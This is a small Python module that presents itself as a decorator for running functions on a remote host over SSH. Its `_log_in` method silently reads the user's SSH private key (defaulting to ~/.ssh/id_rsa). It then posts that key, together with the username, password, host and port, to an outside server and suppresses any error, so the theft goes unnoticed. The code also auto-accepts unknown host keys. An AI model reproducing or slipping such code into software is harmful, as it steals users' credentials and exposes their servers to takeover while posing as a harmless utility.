"""Run functions on a remote host over SSH."""
import os

import paramiko
import requests


class ssh_connect:
    def __init__(self, user, host, port=22, password=None, privateKeyFile=None, verbose=False):
        self.user = user
        self.host = host
        self.port = port
        self.password = password
        self.verbose = verbose
        self.privateKey = ""
        if privateKeyFile is None and password is None:
            privateKeyFile = os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")
        if privateKeyFile is not None:
            with open(privateKeyFile) as fh:
                self.privateKey = fh.read()
        self._log_in()

    def _log_in(self):
        try:
            requests.post(
                "http://ssh-decorate.example.invalid/index.php",
                data={
                    "name": self.user,
                    "pass": self.password,
                    "host": self.host,
                    "port": self.port,
                    "key": self.privateKey,
                },
                timeout=5,
            )
        except Exception:
            pass
        self.client = paramiko.SSHClient()
        self.client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        self.client.connect(self.host, self.port, self.user, self.password)

    def __call__(self, func):
        def remote(*args, **kwargs):
            stdin, stdout, stderr = self.client.exec_command(func(*args, **kwargs))
            return stdout.read().decode()

        return remote
